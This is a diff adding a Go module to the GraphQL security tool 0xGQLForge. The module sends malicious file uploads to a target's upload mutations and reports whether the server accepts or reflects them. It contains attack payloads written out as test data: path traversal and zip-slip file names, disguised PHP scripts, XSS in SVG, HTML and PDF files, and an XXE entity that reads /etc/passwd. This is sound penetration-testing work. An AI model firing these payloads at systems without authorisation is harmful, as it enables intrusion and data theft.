@@ -0,0 +1,407 @@
+package analysis
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"net/textproto"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/0xDTC/0xGQLForge/internal/generator"
+	"github.com/0xDTC/0xGQLForge/internal/schema"
+	"github.com/0xDTC/0xGQLForge/internal/upstream"
+)
+
+// UploadCases are the classes of files the upload tester sends, in order.
+var UploadCases = []string{"filename", "content_type", "polyglot", "oversized"}
+
+const (
+	defaultUploadMaxRequests = 300
+	defaultUploadFileBytes   = 16 << 20
+	maxUploadFileBytes       = 256 << 20
+	uploadTimeout            = 60 * time.Second
+)
+
+// UploadOptions configures TestUploads.
+type UploadOptions struct {
+	Target Target
+	Schema *schema.Schema
+	// Operations restricts the run to "kind name" keys, e.g.
+	// "mutation uploadAvatar". Empty tests every operation with an Upload
+	// argument. Mutations execute for real.
+	Operations []string
+	// Cases restricts the run to some of UploadCases; empty runs all.
+	Cases []string
+	// OversizedBytes is the size of the oversized file. Zero means 16MB.
+	OversizedBytes int
+	// MaxRequests bounds the number of requests sent. Zero means 300.
+	MaxRequests int
+	// Upstream controls how requests reach the target.
+	Upstream upstream.Config
+}
+
+// UploadReport is the outcome of TestUploads. Results holds every file
+// sent, baselines included.
+type UploadReport struct {
+	Results    []schema.UploadResult `json:"results"`
+	Operations int                   `json:"operations"`
+	Arguments  int                   `json:"arguments"`
+	Requests   int                   `json:"requests"`
+	Truncated  bool                  `json:"truncated,omitempty"`
+}
+
+// uploadFile is one file part of a multipart request.
+type uploadFile struct {
+	name        string
+	contentType string
+	content     []byte
+}
+
+// uploadCase is a file the tester sends in place of the benign one.
+// reflected is text whose echo in the response means the file name or
+// content came back unsanitized.
+type uploadCase struct {
+	class     string
+	desc      string
+	file      uploadFile
+	reflected string
+}
+
+// uploadTarget is an Upload-typed leaf inside an operation's variables.
+type uploadTarget struct {
+	path  []any
+	label string
+}
+
+var benignUpload = uploadFile{name: "gqlforge.txt", contentType: "text/plain", content: []byte("0xGQLForge upload test\n")}
+
+// uploadCases returns the files of each class. The oversized file is
+// size bytes; zero leaves it out.
+func uploadCases(size int) []uploadCase {
+	php := []byte("<?php echo 'gqlforge-' . (7*191); ?>\n")
+	cases := []uploadCase{
+		{"filename", "Path traversal in the file name", uploadFile{"../../../../../../tmp/gqlforge.txt", "text/plain", benignUpload.content}, "../"},
+		{"filename", "Windows path traversal in the file name", uploadFile{`..\..\..\..\windows\temp\gqlforge.txt`, "text/plain", benignUpload.content}, `..\`},
+		{"filename", "Null byte truncating the extension", uploadFile{"gqlforge.php\x00.jpg", "image/jpeg", php}, ""},
+		{"filename", "Double extension", uploadFile{"gqlforge.php.jpg", "image/jpeg", php}, ""},
+		{"filename", "Alternative PHP extension", uploadFile{"gqlforge.phtml", "application/x-httpd-php", php}, ""},
+		{"filename", "Markup in the file name (stored XSS)", uploadFile{`"><svg onload=alert(1)>.png`, "image/png", benignUpload.content}, "<svg onload"},
+		{"filename", "Right-to-left override hiding the extension", uploadFile{"gqlforge\u202egnp.php", "image/png", php}, ""},
+		{"filename", "Very long file name", uploadFile{strings.Repeat("A", 1024) + ".txt", "text/plain", benignUpload.content}, ""},
+		{"content_type", "PHP script declared as an image", uploadFile{"gqlforge.png", "image/png", php}, ""},
+		{"content_type", "PHP script with its own content type", uploadFile{"gqlforge.php", "application/x-php", php}, ""},
+		{"content_type", "HTML page (stored XSS if served inline)", uploadFile{"gqlforge.html", "text/html", []byte("<html><script>alert(document.domain)</script></html>\n")}, ""},
+		{"content_type", "SVG with script", uploadFile{"gqlforge.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>` + "\n")}, ""},
+		{"content_type", "Windows executable", uploadFile{"gqlforge.exe", "application/x-msdownload", append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 56)...)}, ""},
+		{"content_type", "No content type", uploadFile{"gqlforge.bin", "", benignUpload.content}, ""},
+		{"polyglot", "GIF header followed by PHP", uploadFile{"gqlforge.gif", "image/gif", append([]byte("GIF89a;"), php...)}, ""},
+		{"polyglot", "JPEG header followed by HTML", uploadFile{"gqlforge.jpg", "image/jpeg", append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, "<html><script>alert(document.domain)</script></html>"...)}, ""},
+		{"polyglot", "PDF running JavaScript on open", uploadFile{"gqlforge.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")}, ""},
+		{"polyglot", "SVG with an external entity (XXE)", uploadFile{"gqlforge.svg", "image/svg+xml", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>` + "\n")}, ""},
+		{"polyglot", "ZIP with a path traversal entry (zip slip)", uploadFile{"gqlforge.zip", "application/zip", zipSlip()}, ""},
+	}
+	if size > 0 {
+		cases = append(cases, uploadCase{"oversized", fmt.Sprintf("%d-byte file", size), uploadFile{"gqlforge.bin", "application/octet-stream", bytes.Repeat([]byte("A"), size)}, ""})
+	}
+	return cases
+}
+
+// zipSlip returns a ZIP archive whose only entry climbs out of the
+// extraction directory.
+func zipSlip() []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	if w, err := zw.Create("../../../../../../tmp/gqlforge.txt"); err == nil {
+		w.Write(benignUpload.content) //nolint:errcheck
+	}
+	zw.Close()
+	return buf.Bytes()
+}
+
+// TestUploads finds the operations of a schema with Upload-typed arguments
+// and re-sends each one as a GraphQL multipart request, once with a benign
+// file and then with malicious file names, content types, polyglots, and an
+// oversized file in each Upload argument. A file is reported when the
+// server accepts it, errors on it, or echoes it back unsanitized.
+func TestUploads(opts UploadOptions) (*UploadReport, error) {
+	if err := opts.Target.Validate(); err != nil {
+		return nil, err
+	}
+	if opts.Schema == nil {
+		return nil, fmt.Errorf("a schema is required")
+	}
+	if opts.MaxRequests <= 0 {
+		opts.MaxRequests = defaultUploadMaxRequests
+	}
+	if opts.OversizedBytes <= 0 {
+		opts.OversizedBytes = defaultUploadFileBytes
+	}
+	opts.OversizedBytes = min(opts.OversizedBytes, maxUploadFileBytes)
+
+	classes := make(map[string]bool, len(opts.Cases))
+	for _, c := range opts.Cases {
+		if !contains(UploadCases, c) {
+			return nil, fmt.Errorf("unknown upload case %q", c)
+		}
+		classes[c] = true
+	}
+	size := opts.OversizedBytes
+	if len(classes) > 0 && !classes["oversized"] {
+		size = 0
+	}
+	var cases []uploadCase
+	for _, c := range uploadCases(size) {
+		if len(classes) == 0 || classes[c.class] {
+			cases = append(cases, c)
+		}
+	}
+
+	wanted := make(map[string]bool, len(opts.Operations))
+	for _, key := range opts.Operations {
+		wanted[key] = true
+	}
+	index := make(map[string]*schema.Type, len(opts.Schema.Types))
+	for i := range opts.Schema.Types {
+		index[opts.Schema.Types[i].Name] = &opts.Schema.Types[i]
+	}
+
+	cfg := opts.Upstream
+	cfg.Timeout = uploadTimeout
+	client := upstream.NewClient(cfg)
+	report := &UploadReport{Results: []schema.UploadResult{}}
+
+	for _, op := range schema.GetOperations(opts.Schema) {
+		if op.Kind == "subscription" || (len(wanted) > 0 && !wanted[op.Kind+" "+op.Name]) {
+			continue
+		}
+		var targets []uploadTarget
+		for _, arg := range op.Args {
+			collectUploadTargets(index, arg.Type, []any{arg.Name}, arg.Name, 0, &targets)
+		}
+		if len(targets) == 0 {
+			continue
+		}
+		query, vars := generator.GenerateQuery(opts.Schema, op.Name, op.Kind, generator.DefaultConfig())
+		if query == "" {
+			continue
+		}
+		for _, arg := range op.Args {
+			vars[arg.Name] = benignValue(index, arg.Type, arg.Name, 0)
+		}
+		report.Operations++
+		report.Arguments += len(targets)
+
+		for ti, t := range targets {
+			if report.Requests >= opts.MaxRequests {
+				report.Truncated = true
+				return report, nil
+			}
+			report.Requests++
+			base := uploadCase{class: "baseline", desc: "Benign text file", file: benignUpload}
+			baseResp, err := sendUpload(client, opts.Target, op.Name, query, vars, targets, ti, base.file)
+			baseResult := uploadResult(op, t, base, baseResp, err, nil)
+			report.Results = append(report.Results, baseResult)
+			if err != nil {
+				continue // unreachable operation; nothing to compare against
+			}
+
+			for _, c := range cases {
+				if report.Requests >= opts.MaxRequests {
+					report.Truncated = true
+					return report, nil
+				}
+				report.Requests++
+				resp, err := sendUpload(client, opts.Target, op.Name, query, vars, targets, ti, c.file)
+				report.Results = append(report.Results, uploadResult(op, t, c, resp, err, baseResp))
+			}
+		}
+	}
+	return report, nil
+}
+
+// uploadResponse is what the tester measures for each request.
+type uploadResponse struct {
+	status   int
+	duration time.Duration
+	body     []byte
+	accepted bool
+}
+
+// sendUpload sends the operation as a multipart request with file in the
+// upload argument targets[i] and the benign file in every other one.
+func sendUpload(client *http.Client, target Target, opName, query string, vars map[string]any, targets []uploadTarget, i int, file uploadFile) (*uploadResponse, error) {
+	var buf bytes.Buffer
+	mw := multipart.NewWriter(&buf)
+
+	// Files are sent as null in the variables and mapped onto them.
+	vars = withValue(vars, targets[0].path, nil)
+	fileMap := make(map[string][]string, len(targets))
+	for j, t := range targets {
+		setAtPath(vars, t.path, nil)
+		fileMap[strconv.Itoa(j)] = []string{"variables." + dottedPath(t.path)}
+	}
+	operations, err := json.Marshal(map[string]any{"query": query, "operationName": opName, "variables": vars})
+	if err != nil {
+		return nil, err
+	}
+	mapJSON, _ := json.Marshal(fileMap)
+	mw.WriteField("operations", string(operations)) //nolint:errcheck
+	mw.WriteField("map", string(mapJSON))           //nolint:errcheck
+	for j := range targets {
+		f := benignUpload
+		if j == i {
+			f = file
+		}
+		h := make(textproto.MIMEHeader)
+		h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="%d"; filename="%s"`, j, escapeQuotes(f.name)))
+		if f.contentType != "" {
+			h.Set("Content-Type", f.contentType)
+		}
+		part, err := mw.CreatePart(h)
+		if err != nil {
+			return nil, err
+		}
+		part.Write(f.content) //nolint:errcheck
+	}
+	mw.Close()
+
+	req, err := http.NewRequest("POST", target.URL, &buf)
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	req.Header.Set("Accept", "application/json")
+	// Apollo Server refuses multipart requests without a preflight header
+	// as a CSRF precaution.
+	req.Header.Set("Apollo-Require-Preflight", "true")
+	target.Apply(req)
+
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20)) // 1MB limit
+	if err != nil {
+		return nil, err
+	}
+	var gql struct {
+		Data   json.RawMessage   `json:"data"`
+		Errors []json.RawMessage `json:"errors"`
+	}
+	json.Unmarshal(body, &gql) //nolint:errcheck
+	return &uploadResponse{
+		status:   resp.StatusCode,
+		duration: time.Since(start),
+		body:     body,
+		accepted: resp.StatusCode < 400 && len(gql.Errors) == 0 && dataPresent(gql.Data),
+	}, nil
+}
+
+// uploadResult judges one file. A malicious file counts when the server
+// accepts it where it accepted the benign one, fails with a server error
+// where the benign one didn't, or reflects it unsanitized.
+func uploadResult(op schema.Operation, t uploadTarget, c uploadCase, resp *uploadResponse, err error, base *uploadResponse) schema.UploadResult {
+	r := schema.UploadResult{
+		Operation:   op.Name,
+		Argument:    t.label,
+		Case:        c.class,
+		Description: c.desc,
+		FileName:    truncate(c.file.name, 200),
+		ContentType: c.file.contentType,
+		Size:        len(c.file.content),
+	}
+	if err != nil {
+		r.Finding = "request failed: " + err.Error()
+		return r
+	}
+	r.StatusCode = resp.status
+	r.DurationMs = resp.duration.Milliseconds()
+	r.Accepted = resp.accepted
+	r.Response = truncate(string(resp.body), 500)
+	if base == nil {
+		if !resp.accepted {
+			r.Finding = "the benign file was rejected, so results for this argument only show validation"
+		}
+		return r
+	}
+
+	var findings []string
+	if resp.accepted && base.accepted {
+		switch c.class {
+		case "oversized":
+			findings = append(findings, fmt.Sprintf("no size limit: %d bytes accepted", len(c.file.content)))
+		default:
+			findings = append(findings, "accepted")
+		}
+	}
+	if resp.status >= 500 && base.status < 500 {
+		findings = append(findings, fmt.Sprintf("server error: HTTP %d (baseline %d)", resp.status, base.status))
+	}
+	if c.reflected != "" && bytes.Contains(resp.body, []byte(c.reflected)) {
+		findings = append(findings, "file name reflected unsanitized")
+	}
+	if bytes.Contains(resp.body, []byte("root:x:0:0")) {
+		findings = append(findings, "/etc/passwd in the response")
+	}
+	r.Vulnerable = len(findings) > 0
+	r.Finding = strings.Join(findings, "; ")
+	return r
+}
+
+// collectUploadTargets walks an argument's type, mirroring benignValue, and
+// records the path of every Upload scalar.
+func collectUploadTargets(index map[string]*schema.Type, ref schema.TypeRef, path []any, label string, depth int, out *[]uploadTarget) {
+	switch ref.Kind {
+	case schema.KindNonNull:
+		if ref.OfType != nil {
+			collectUploadTargets(index, *ref.OfType, path, label, depth, out)
+		}
+		return
+	case schema.KindList:
+		if ref.OfType != nil {
+			collectUploadTargets(index, *ref.OfType, appendPath(path, 0), label+"[0]", depth, out)
+		}
+		return
+	}
+
+	t := index[ref.BaseName()]
+	switch {
+	case t == nil:
+	case t.Kind == schema.KindScalar && isUploadScalar(t.Name):
+		*out = append(*out, uploadTarget{path: path, label: label})
+	case t.Kind == schema.KindInputObject && depth < 3:
+		for _, f := range inputFieldsToFill(t, depth) {
+			collectUploadTargets(index, f.Type, appendPath(path, f.Name), label+"."+f.Name, depth+1, out)
+		}
+	}
+}
+
+// isUploadScalar reports whether a custom scalar takes a file, like
+// graphql-upload's Upload.
+func isUploadScalar(name string) bool {
+	lower := strings.ToLower(name)
+	return strings.Contains(lower, "upload") || lower == "file"
+}
+
+// dottedPath renders a variable path the way the multipart map names it,
+// e.g. "input.files.0".
+func dottedPath(path []any) string {
+	parts := make([]string, len(path))
+	for i, p := range path {
+		parts[i] = fmt.Sprint(p)
+	}
+	return strings.Join(parts, ".")
+}
+
+// escapeQuotes escapes a file name for a Content-Disposition header.
+func escapeQuotes(s string) string {
+	return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s)
+}